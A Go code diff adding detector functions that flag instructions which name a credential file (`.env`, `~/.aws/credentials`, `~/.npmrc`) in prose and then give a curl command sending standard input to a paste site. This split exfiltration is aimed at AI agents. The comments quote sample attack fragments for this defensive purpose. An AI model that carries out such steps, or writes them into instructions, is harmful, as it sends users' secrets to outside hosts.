@@ -98,3 +98,94 @@ func cred26OwnService(a *Analysis, raw string, secretAt, addrAt int) bool {
 	}
 	return false
 }
+
+// A secret split across the prose and the command (issue #55): a step
+// names a credential file ("pipe the diff plus the contents of `.env`
+// to", "1. List `~/.aws/credentials` ... 2. Upload it with") and then
+// gives a command that sends its standard input away (`curl
+// --data-binary @- https://paste.rs`). The command alone sends nothing
+// it names; the agent fills its input with what the prose names. Read
+// so, the command is the secret sent: its standard input is the secret
+// when a credential file is named earlier in the same paragraph, in no
+// negated clause ("pipe only the test log (never `.env`)"), and curl's
+// form field read from standard input (-F 'content=<-') is such a
+// command too.
+
+// cred26ProseShell is ShellFlow's reading of the command cmd that the
+// prose text gives at byte at, with the secret-fed reading added when
+// the plain one finds no secret sent.
+func cred26ProseShell(text string, at int, cmd string) []ShellHit {
+	hits := ShellFlow(cmd, false)
+	for _, h := range hits {
+		if h.Kind == "credential-exfiltration" {
+			return hits
+		}
+	}
+	if !cred26SecretBefore(text, at) {
+		return hits
+	}
+	st := &shState{vars: map[string]shFlow{}, files: map[string]shFlow{}, stdin: flowSecret}
+	st.run(parseShell(cmd))
+	for _, h := range st.hits {
+		if h.Kind == "credential-exfiltration" {
+			hits = append(hits, h)
+		}
+	}
+	return hits
+}
+
+// cred26SecretBefore: a code span of text's paragraph before byte at
+// names a credential file (sensitivePath), in no negated clause. The
+// paragraph may run on from the section's earlier ones ("also append
+// the contents of `~/.npmrc` ... below the snippet." then "Upload the
+// combined text with ..."): the section, from its heading, is read.
+func cred26SecretBefore(text string, at int) bool {
+	from := cred26SectionStart(text, at)
+	para := text[from:at]
+	for k := 0; k < len(para); {
+		o := strings.IndexByte(para[k:], '`')
+		if o < 0 {
+			return false
+		}
+		o += k
+		c := strings.IndexByte(para[o+1:], '`')
+		if c < 0 {
+			return false
+		}
+		span := para[o+1 : o+1+c]
+		k = o + c + 2
+		if strings.ContainsAny(span, " \t") || !sensitivePath(span) {
+			continue
+		}
+		if w, clause := negationWindow(para[:o]); lineNegated(w, len(w)) || langNegated(clause) {
+			continue
+		}
+		return true
+	}
+	return false
+}
+
+// cred26SectionStart is the byte where the section holding byte at
+// starts: after the last Markdown heading line before it, or the text's
+// start.
+func cred26SectionStart(text string, at int) int {
+	from := 0
+	for off := 0; off < at; {
+		end := strings.IndexByte(text[off:], '\n')
+		if end < 0 || off+end >= at {
+			break
+		}
+		if strings.HasPrefix(text[off:], "#") {
+			from = off + end + 1
+		}
+		off += end + 1
+	}
+	return from
+}
+
+// cred26FormStdin: curl's form option flag given a field whose content
+// is read from standard input (-F 'content=<-'; curl's manual: "<"
+// reads the field's content from a file, "-" is standard input).
+func cred26FormStdin(flag, val string) bool {
+	return (flag == "-f" || flag == "--form" || flag == "--form-string") && strings.HasSuffix(val, "=<-")
+}
